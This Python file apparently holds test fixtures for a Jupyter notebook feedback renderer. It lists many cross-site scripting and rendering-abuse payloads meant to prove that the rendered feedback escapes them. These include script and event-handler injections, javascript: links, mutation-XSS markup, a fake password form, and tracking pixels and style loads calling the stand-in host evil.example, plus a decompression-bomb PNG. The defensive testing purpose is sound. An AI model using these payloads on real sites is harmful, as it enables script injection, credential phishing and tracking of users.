"""Outputs that try to run or to load something in the browser of whoever reads the feedback.

The answers are right, and the outputs are produced when the notebook is run. In the rendered feedback none of
the `MARKERS` may stand inside a tag, an attribute or a script; as plain text, escaped, they may.
"""

from __future__ import annotations

from catalogue.frame import Case, messy
from catalogue.messy import entries, finished

MARKERS = ("alert(1)", "evil.example")

# What the try-it cell shows as HTML.
PAGES = r"""
=== html-script
A script element in an HTML output.
<p>fine</p><script>alert(1)</script>

=== html-script-split-by-a-filter
What is left after one pass of a simple filter is a script again.
<scr<script>ipt>alert(1)</scr</script>ipt><SCRIPT/x src="//evil.example/x.js"></SCRIPT >

=== html-event-handler
Handlers that fire without a click.
<img src=x onerror=alert(1)><details open ontoggle="alert(1)">x</details><body onload=alert(1)>

=== html-event-handler-without-blanks
Slashes, line breaks and capitals between the attributes.
<img/src=x/OnErRoR=alert(1)><svg/onload=alert(1)><input
autofocus
onfocus
=
alert(1)>

=== html-javascript-link
Links that run code, plain, in capitals, with a tab and in entities.
<a href="javascript:alert(1)">a</a> <a href=" JaVaScRiPt:alert(1)">b</a> <a href="java	script:alert(1)">c</a>
<a href="&#106;avascript&colon;alert(1)">d</a> <a href="data:text/html,<script>alert(1)</script>">e</a>

=== html-svg-with-script
Scripts, handlers and foreign HTML inside an SVG element.
<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x dur=1s></animate>
<a xlink:href="javascript:alert(1)"><text>x</text></a>
<foreignObject><iframe onload=alert(1)></iframe></foreignObject>
<use href="data:image/svg+xml,<svg id='x'><script>alert(1)</script></svg>#x"></use></svg>

=== html-iframe
Frames by address and by content, and their older relatives.
<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="javascript:alert(1)"><frameset onload=alert(1)>

=== html-style-element
A style sheet that loads from outside and paints over the page.
<style>@import url("https://evil.example/x.css"); body { background: url(//evil.example/seen.png) }</style>
<link rel="stylesheet" href="//evil.example/x.css">

=== html-style-attribute
A style attribute that loads a picture, to learn when the feedback is read.
<div style="background-image: url('https://evil.example/seen.png')">x</div>
<div style="background:\75rl(//evil.example/seen)">y</div><p style="width: expression(alert(1))">z</p>

=== html-overlay
A sheet of glass over the whole page; a click on it goes astray.
<div style="position:fixed;inset:0;z-index:9999;background:url(//evil.example/white.png)"
onclick="alert(1)">100</div>

=== html-meta-refresh
The page is left after a moment.
<meta http-equiv="refresh" content="0; url=https://evil.example/">

=== html-base
All relative addresses of the page lead elsewhere.
<base href="https://evil.example/"><p>fine</p>

=== html-form
A form that asks the instructor for a password.
<form action="https://evil.example/"><input name=password type=password>
<button formaction="javascript:alert(1)">log in</button></form>
<isindex action="javascript:alert(1)"><input type=image src=x formaction="//evil.example/">

=== html-pictures-from-outside
Pictures that tell their server who reads: src, srcset, poster, background, ping.
<img src="https://evil.example/seen.png"><img srcset="//evil.example/a 2x">
<video poster="//evil.example/b"></video>
<table background="//evil.example/c"><tr><td>x</table><picture><source srcset="//evil.example/d"></picture>
<a href="#" ping="//evil.example/e">f</a><audio src="//evil.example/g" autoplay></audio>

=== html-unclosed-comment
An unclosed comment hides what follows, and the end of an earlier one comes from the page.
<!-- <img src=x onerror=alert(1)>

=== html-unclosed-elements
Elements whose content is text until they are closed swallow the rest of the page.
<table><tr><td><textarea><title><noscript><template><xmp><plaintext><img src=x onerror=alert(1)>

=== html-closes-the-page
Ends of elements that the output did not begin.
</div></div></pre></td></table></main></body></html><script>alert(1)</script>

=== html-mutation
Markup that is harmless when parsed once, and harmful when it was written out and parsed again.
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>

=== html-attribute-ends-early
Backticks, quotes without end and a NUL in the name of an attribute.
<img alt="`` onerror=alert(1)" src=x> <img title='"><img src=x onerror=alert(1)>'>
<img src="x` `<script>alert(1)</script>"`
<img src=x o&#0;nerror=alert(1)><a title="x" href='x'"onclick=alert(1)>

=== html-declarations
A processing instruction, CDATA, a doctype and a conditional comment.
<?xml version="1.0"?><?php alert(1) ?><![CDATA[<script>alert(1)</script>]]>
<!DOCTYPE x [<!ENTITY e "<script>">]>
<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!--><script>alert(1)</script>-->

=== html-names-that-shadow
Names of elements hide functions of the page's own scripts.
<form id="MathJax"><input name="Hub" value="javascript:alert(1)"></form>
<a id="require" href="javascript:alert(1)">x</a>
<div class="jp-RenderedHTML" data-commandlinker-command="alert(1)" data-commandlinker-args="alert(1)">y</div>

=== html-custom-elements
Elements that the page may know: dialogs, portals, slots, declarative shadow roots.
<dialog open onclose=alert(1)>x</dialog><portal src="https://evil.example/"></portal>
<div><template shadowrootmode="open"><script>alert(1)</script></template></div><x-y onclick="alert(1)">z</x-y>
"""

# What the try-it cell runs.
SOURCES = r"""
=== output-javascript
An output of type application/javascript.
from IPython.display import Javascript
Javascript("alert(1)")

=== output-javascript-magic
The magic writes an output of type application/javascript.
%%javascript
alert(1)

=== output-svg
A picture that can hold scripts.
from IPython.display import SVG
page = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
SVG(page)

=== output-markdown
Markdown that holds HTML and links that run code.
from IPython.display import Markdown
Markdown("<img src=x onerror=alert(1)>\n\n[x](javascript:alert(1)) ![y](https://evil.example/seen.png)")

=== output-latex
Commands with which MathJax makes links and styles.
from IPython.display import Latex, Math, display
display(Latex(r"$\require{html}\href{javascript:alert(1)}{x}\style{background:url(//evil.example/y)}{z}$"))
display(Math(r"\unicode{x3c}</script><script>alert(1)</script>\def\frac#1#2{0}\newcommand{\x}{\x\x}\x"))

=== output-iframe
IFrame, YouTubeVideo and a table of links are made by IPython's own classes.
from IPython.display import IFrame, Image, display
display(IFrame("https://evil.example/", 800, 600), IFrame("javascript:alert(1)", 1, 1))
display(Image(url="https://evil.example/seen.png"))

=== output-picture-that-is-none
A PNG whose text ends the attribute in which it will stand.
from IPython.display import display
display({"image/png": 'x" onerror="alert(1)', "image/jpeg": "'><script>alert(1)</script>"}, raw=True)

=== output-picture-damaged
PNGs that are empty, cut off, of other bytes, and no text.
from IPython.display import display
for data in ("", "iVBORw0KGgo=", "AAAA", "%%%", 5, None, ["iVBO"], {}, "\ud800"):
    display({"image/png": data}, raw=True)

=== output-picture-of-a-giant
A PNG of a few bytes that says it has 60,000 by 60,000 pixels.
import base64
import struct
import zlib
from IPython.display import display

def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
body = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(99))) + chunk(b"IEND", b"")
png = b"\x89PNG\r\n\x1a\n" + body
display({"image/png": base64.b64encode(png).decode()}, raw=True)

=== output-metadata-of-a-picture
Width and height go into attributes of the picture.
from IPython.display import display
size = {"width": '1" onload="alert(1)', "height": "1' onerror='alert(1)"}
display({"image/png": "iVBORw0KGgo="}, metadata={"image/png": size}, raw=True)

=== output-widget
A widget's state names the module that the page has to load.
from IPython.display import display
view = {"model_id": '"><script>alert(1)</script>', "version_major": 2, "version_minor": 0}
display({"application/vnd.jupyter.widget-view+json": view, "text/plain": "a widget"}, raw=True)

=== output-types-of-others
Types that extensions draw: Plotly, Bokeh, Vega, PDF, and one that ends an attribute.
from IPython.display import display
page = "<script src='https://evil.example/x.js'>alert(1)</script>"
for kind in ("application/vnd.plotly.v1+json", "application/vnd.bokehjs_exec.v0+json", "application/pdf",
             "application/vnd.vegalite.v5+json", "text/x" + '"><script>alert(1)</script>', "text/HTML", ""):
    display({kind: page}, raw=True)
    display({kind: {"html": page}}, raw=True)

=== output-by-a-representation
An object says itself how it is shown, in every type and with a failing one.
class Customer:
    def _repr_html_(self):
        return "<img src=x onerror=alert(1)>"
    def _repr_javascript_(self):
        return "alert(1)"
    def _repr_svg_(self):
        return "<svg onload=alert(1)></svg>"
    def _repr_latex_(self):
        raise ValueError("<script>alert(1)</script>")
    def __repr__(self):
        return "<script>alert(1)</script>"

Customer()

=== output-by-a-mimebundle
An object gives a bundle whose values are of wrong types.
class Customer:
    def _repr_mimebundle_(self, include=None, exclude=None):
        image = "<img src=x onerror=alert(1)>"
        return {"text/html": ["<script>", "alert(1)", "</script>"], "text/plain": 5, 7: image}

Customer()

=== output-of-a-table
Cells, columns and index of a DataFrame hold HTML, which pandas escapes unless it is asked not to.
from IPython.display import HTML, display
table = pd.DataFrame({"<img src=x onerror=alert(1)>": ["<script>alert(1)</script>"]})
table.index = ["<svg onload=alert(1)>"]
display(table, HTML(table.to_html(escape=False)), table.style.set_caption("<script>alert(1)</script>"))

=== output-printed-html
HTML is printed, so it is text.
import sys
print("<script>alert(1)</script></pre><img src=x onerror=alert(1)>")
print("</pre><svg onload=alert(1)>", file=sys.stderr)

=== output-escape-sequences
Sequences for terminals: colours that never end, a cleared screen, a title, a link, HTML between them.
print("\x1b[31;5;7m<img src=x onerror=alert(1)>\x1b[2J\x1b[H\x1b]0;title\x07")
print("\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07")
print("\x1b[38;2;0;0;0\"onclick=alert(1)//m red \x1b[99999999999m \x9b31m \x1bP\x1b_x\x1b\\")

=== output-control-characters
NUL, backspaces, directions reversed, half characters and thousands of marks on one letter.
print("a\x00b\x08\x08<script>alert(1)</script>\u202eedih\u2066\ufeff\ufffe\uffff" + "Z" + "\u0301" * 10_000)
import sys
sys.stdout.write("\ud800 half")

=== output-of-one-line
One line of HTML of a megabyte, and elements in each other 100,000 deep.
from IPython.display import HTML, display
display(HTML("<b>x</b>" * 100_000), HTML("<div>" * 100_000), HTML("<" * 500_000), HTML("&" * 500_000))

=== output-updated-later
A harmless output is replaced by another one under its display id.
from IPython.display import HTML, display
handle = display(HTML("fine"), display_id='"><script>alert(1)</script>')
handle.update(HTML("<img src=x onerror=alert(1)>"))

=== output-marked-as-isolated
Outputs are published through the shell itself, marked as isolated, which nbconvert puts into a frame.
from IPython.display import publish_display_data
get_ipython().display_pub.publish({"text/html": "<script>alert(1)</script>"}, metadata={"isolated": True})
publish_display_data({"text/html": "<script>alert(1)</script>"}, {"text/html": {"isolated": True}})
"""


def shown(name: str, about: str, cells: dict[str, str]) -> Case:
    """Return the case of a finished notebook whose try-it cell shows this HTML."""
    source = f"from IPython.display import HTML\n\nHTML({cells['']!r})"
    return messy(name, about, finished(clv_value_try=source))


def run(name: str, about: str, cells: dict[str, str]) -> Case:
    """Return the case of a finished notebook whose try-it cell runs this source."""
    return messy(name, about, finished(clv_value_try=cells[""]))


CASES = [shown(*entry) for entry in entries(PAGES)] + [run(*entry) for entry in entries(SOURCES)]
